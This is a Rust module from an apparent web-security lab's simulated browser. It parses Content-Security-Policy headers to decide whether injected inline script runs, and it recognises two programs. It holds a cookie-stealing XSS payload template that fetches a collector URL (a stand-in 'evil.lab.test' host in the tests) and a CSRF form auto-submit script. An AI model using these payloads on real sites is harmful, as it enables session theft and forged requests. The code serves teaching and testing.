//! The simulated browser's script model: a deliberately tiny stand-in for JavaScript.
//!
//! The model "runs" an inline script only where a real browser would: the `<script>` element
//! must exist in the parsed page (escaped text is not a script) and the page's
//! Content-Security-Policy must allow inline script. It understands exactly two programs, the
//! lab's exfiltration payload and the auto-submit of the page's first form (a CSRF page);
//! anything else is ignored and reported so.
use url::Url;

/// The exfiltration program. `{collector}` is replaced by the collector URL (ending in `?c=`).
pub const EXFILTRATE_COOKIES_TEMPLATE: &str =
    "<script>fetch('{collector}'+encodeURIComponent(document.cookie))</script>";

/// The auto-submit program: a page that sends its first form the moment it is shown, as a
/// cross-site request forgery page does with a hidden form.
pub const AUTO_SUBMIT_FIRST_FORM: &str = "<script>document.forms[0].submit()</script>";

/// What happened to one inline script on a page.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScriptEffect {
    /// The exfiltration program ran: it read `document_cookie` and requested `request`.
    Exfiltrated {
        document_cookie: String,
        request: Url,
    },
    /// The auto-submit program ran: the page's first form went to `action` as a top-level
    /// navigation started by the page. `status` is the final answer after redirects; `None` if
    /// the request failed (the reason is in the browser's `script_errors`).
    SubmittedForm {
        action: Url,
        method: String,
        status: Option<u16>,
    },
    /// The page's Content-Security-Policy forbade inline script.
    BlockedByCsp { policy: String },
    /// A script the model does not understand; it is ignored.
    Ignored { excerpt: String },
}

/// [`EXFILTRATE_COOKIES_TEMPLATE`] with the collector URL filled in: the payload an attacker posts.
pub fn exfiltration_payload(collector: &str) -> String {
    EXFILTRATE_COOKIES_TEMPLATE.replace("{collector}", collector)
}

/// Whether the policy (a `Content-Security-Policy` header value) allows inline scripts.
///
/// CSP3: several policies (several headers, or one value joined with `,`) are all enforced, so
/// every one must allow it. Within a policy, an inline `<script>` is governed by `script-src-elem`,
/// else `script-src`, else `default-src`; with none of them, scripts are unrestricted. A source
/// list allows inline script only with `'unsafe-inline'` - and since CSP2, a nonce, a hash or
/// `'strict-dynamic'` in the same list switch `'unsafe-inline'` off (the injected script carries
/// no nonce, so the model treats it as blocked).
pub fn csp_allows_inline_script(policy: Option<&str>) -> bool {
    let Some(policy) = policy else {
        return true;
    };
    policy.split(',').all(policy_allows_inline_script)
}

/// One serialized policy (CSP3 2.2.1): directives separated by `;`, the first occurrence of a
/// directive name (case-insensitive) wins.
fn policy_allows_inline_script(policy: &str) -> bool {
    let mut directives: Vec<(String, Vec<&str>)> = Vec::new();
    for directive in policy.split(';') {
        let mut tokens = directive.split_ascii_whitespace();
        let Some(name) = tokens.next().map(str::to_ascii_lowercase) else {
            continue;
        };
        if !directives.iter().any(|(seen, _)| *seen == name) {
            directives.push((name, tokens.collect()));
        }
    }
    let governing = ["script-src-elem", "script-src", "default-src"]
        .iter()
        .find_map(|wanted| directives.iter().find(|(name, _)| name == wanted));
    match governing {
        None => true,
        Some((_, sources)) => source_list_allows_inline(sources),
    }
}

/// CSP3 "does a source list allow all inline behavior": `'unsafe-inline'` and no nonce, hash or
/// `'strict-dynamic'`. Keywords are case-insensitive.
fn source_list_allows_inline(sources: &[&str]) -> bool {
    let lower: Vec<String> = sources.iter().map(|s| s.to_ascii_lowercase()).collect();
    let unsafe_inline = lower.iter().any(|s| s == "'unsafe-inline'");
    let cancelled = lower.iter().any(|s| {
        s.starts_with("'nonce-")
            || s.starts_with("'sha256-")
            || s.starts_with("'sha384-")
            || s.starts_with("'sha512-")
            || s == "'strict-dynamic'"
    });
    unsafe_inline && !cancelled
}

/// If the script text is the exfiltration program, `fetch('<url>'+encodeURIComponent(document.cookie))`
/// (whitespace between tokens allowed, single or double quotes, an optional `;`), the collector
/// URL prefix it names.
///
/// The text is split into JavaScript-like tokens and compared token by token, so
/// `fetch ( "x" + encodeURIComponent( document.cookie ) );` is recognised but
/// `fetch('x'+encodeURI Component(document.cookie))` (a syntax error in JavaScript) is not.
pub fn parse_exfiltration(script: &str) -> Option<String> {
    let tokens = tokenize(script)?;
    let tokens = match tokens.split_last() {
        Some((Token::Punct(';'), rest)) => rest,
        _ => &tokens[..],
    };
    match tokens {
        [
            Token::Word("fetch"),
            Token::Punct('('),
            Token::Str(collector),
            Token::Punct('+'),
            Token::Word("encodeURIComponent"),
            Token::Punct('('),
            Token::Word("document"),
            Token::Punct('.'),
            Token::Word("cookie"),
            Token::Punct(')'),
            Token::Punct(')'),
        ] => Some((*collector).to_string()),
        _ => None,
    }
}

/// Whether the script text is the auto-submit program, `document.forms[0].submit()` (whitespace
/// between tokens allowed, an optional `;`), compared token by token like [`parse_exfiltration`].
pub fn is_auto_submit(script: &str) -> bool {
    let Some(tokens) = tokenize(script) else {
        return false;
    };
    let tokens = match tokens.split_last() {
        Some((Token::Punct(';'), rest)) => rest,
        _ => &tokens[..],
    };
    matches!(
        tokens,
        [
            Token::Word("document"),
            Token::Punct('.'),
            Token::Word("forms"),
            Token::Punct('['),
            Token::Word("0"),
            Token::Punct(']'),
            Token::Punct('.'),
            Token::Word("submit"),
            Token::Punct('('),
            Token::Punct(')'),
        ]
    )
}

/// A JavaScript token, as far as the model needs them.
#[derive(Debug, PartialEq, Eq)]
enum Token<'a> {
    /// An identifier: letters, digits, `_`, `$`.
    Word(&'a str),
    /// A string literal's contents, without the quotes.
    Str(&'a str),
    /// Any other single character.
    Punct(char),
}

/// Splits script text into tokens; None for a string literal the model cannot read (unterminated,
/// spanning lines, or with escapes).
fn tokenize(code: &str) -> Option<Vec<Token<'_>>> {
    let mut tokens = Vec::new();
    let mut rest = code;
    while let Some(first) = rest.chars().next() {
        if first.is_whitespace() {
            rest = &rest[first.len_utf8()..];
        } else if first == '\'' || first == '"' {
            let body = &rest[1..];
            let end = body.find(first)?;
            let literal = &body[..end];
            if literal.contains(['\\', '\n', '\r']) {
                return None;
            }
            tokens.push(Token::Str(literal));
            rest = &body[end + 1..];
        } else if is_word_char(first) {
            let end = rest.find(|c: char| !is_word_char(c)).unwrap_or(rest.len());
            tokens.push(Token::Word(&rest[..end]));
            rest = &rest[end..];
        } else {
            tokens.push(Token::Punct(first));
            rest = &rest[first.len_utf8()..];
        }
    }
    Some(tokens)
}

/// Characters of a JavaScript identifier (ASCII and Unicode letters, digits, `_`, `$`).
fn is_word_char(c: char) -> bool {
    c.is_alphanumeric() || c == '_' || c == '$'
}

/// JavaScript's `encodeURIComponent`: every byte of the UTF-8 text is percent-encoded except
/// `A-Z a-z 0-9 - _ . ! ~ * ' ( )`. This is what puts `sid=abc; theme=dark` into a URL as
/// `sid%3Dabc%3B%20theme%3Ddark`.
pub fn encode_uri_component(text: &str) -> String {
    let mut encoded = String::with_capacity(text.len());
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || b"-_.!~*'()".contains(&byte) {
            encoded.push(char::from(byte));
        } else {
            encoded.push_str(&format!("%{byte:02X}"));
        }
    }
    encoded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_policy_allows_inline_script() {
        assert!(csp_allows_inline_script(None));
        assert!(csp_allows_inline_script(Some("")));
        assert!(csp_allows_inline_script(Some(
            "img-src 'self'; frame-ancestors 'none'"
        )));
    }

    #[test]
    fn script_src_without_unsafe_inline_blocks() {
        assert!(!csp_allows_inline_script(Some("script-src 'self'")));
        assert!(!csp_allows_inline_script(Some("default-src 'self'")));
        assert!(!csp_allows_inline_script(Some("default-src 'none'")));
        assert!(!csp_allows_inline_script(Some("script-src")));
    }

    #[test]
    fn unsafe_inline_allows() {
        assert!(csp_allows_inline_script(Some(
            "script-src 'self' 'unsafe-inline'"
        )));
        assert!(csp_allows_inline_script(Some(
            "default-src 'self' 'UNSAFE-INLINE'"
        )));
    }

    #[test]
    fn script_src_beats_default_src_and_script_src_elem_beats_both() {
        assert!(csp_allows_inline_script(Some(
            "default-src 'self'; script-src 'unsafe-inline'"
        )));
        assert!(!csp_allows_inline_script(Some(
            "default-src 'unsafe-inline'; script-src 'self'"
        )));
        assert!(!csp_allows_inline_script(Some(
            "script-src 'unsafe-inline'; script-src-elem 'self'"
        )));
    }

    #[test]
    fn first_occurrence_of_a_directive_wins() {
        assert!(!csp_allows_inline_script(Some(
            "script-src 'self'; SCRIPT-SRC 'unsafe-inline'"
        )));
    }

    #[test]
    fn nonce_hash_or_strict_dynamic_cancel_unsafe_inline() {
        for policy in [
            "script-src 'unsafe-inline' 'nonce-abc123'",
            "script-src 'unsafe-inline' 'sha256-AAAA'",
            "script-src 'unsafe-inline' 'strict-dynamic'",
        ] {
            assert!(!csp_allows_inline_script(Some(policy)), "{policy}");
        }
    }

    #[test]
    fn every_policy_in_a_list_is_enforced() {
        assert!(!csp_allows_inline_script(Some(
            "script-src 'unsafe-inline', script-src 'self'"
        )));
        assert!(csp_allows_inline_script(Some(
            "script-src 'unsafe-inline', img-src 'self'"
        )));
    }

    #[test]
    fn exfiltration_template_is_recognised() {
        let collector = "http://evil.lab.test:5000/collect?c=";
        let page = format!("<p>hi</p>{}", exfiltration_payload(collector));
        let scripts = crate::html::inline_scripts(&page);
        assert_eq!(scripts.len(), 1);
        assert_eq!(parse_exfiltration(&scripts[0]).as_deref(), Some(collector));
    }

    #[test]
    fn exfiltration_tolerates_whitespace_quotes_and_semicolon() {
        let script =
            "\n  fetch ( \"http://c/?c=\" +\n encodeURIComponent( document . cookie ) ) ;  ";
        assert_eq!(parse_exfiltration(script).as_deref(), Some("http://c/?c="));
    }

    #[test]
    fn other_programs_are_not_exfiltration() {
        for script in [
            "alert(1)",
            "fetch('http://c/?c='+document.cookie)",
            "fetch('http://c/?c='+encodeURI Component(document.cookie))",
            "fetch('http://c/?c='+encodeURIComponent(document.cookie)); alert(1)",
            "fetch('http://c/?c=\\'+encodeURIComponent(document.cookie))",
            "fetch('http://c/?c=+encodeURIComponent(document.cookie))",
            "fetch(\"http://c/?c='+encodeURIComponent(document.cookie))",
            "",
        ] {
            assert_eq!(parse_exfiltration(script), None, "{script}");
        }
    }

    #[test]
    fn auto_submit_is_recognised() {
        let page = format!("<form method=post action=/x></form>{AUTO_SUBMIT_FIRST_FORM}");
        let scripts = crate::html::inline_scripts(&page);
        assert_eq!(scripts.len(), 1);
        assert!(is_auto_submit(&scripts[0]));
        assert!(is_auto_submit("\n document . forms [ 0 ] . submit ( ) ; "));
    }

    #[test]
    fn other_programs_are_not_auto_submit() {
        for script in [
            "document.forms[1].submit()",
            "document.forms[0].submit",
            "document.forms[0].submit(); alert(1)",
            "document.form[0].submit()",
            "window.document.forms[0].submit()",
            "document.forms[0].requestSubmit()",
            "document.forms[0].submit(1)",
            "fetch('http://c/?c='+encodeURIComponent(document.cookie))",
            "",
        ] {
            assert!(!is_auto_submit(script), "{script}");
        }
        // And the auto-submit is not mistaken for the exfiltration program.
        assert_eq!(parse_exfiltration("document.forms[0].submit()"), None);
    }

    #[test]
    fn encode_uri_component_matches_javascript() {
        assert_eq!(
            encode_uri_component("sid=abc; theme=dark"),
            "sid%3Dabc%3B%20theme%3Ddark"
        );
        assert_eq!(encode_uri_component("AZaz09-_.!~*'()"), "AZaz09-_.!~*'()");
        assert_eq!(encode_uri_component("é/?#&+"), "%C3%A9%2F%3F%23%26%2B");
    }
}
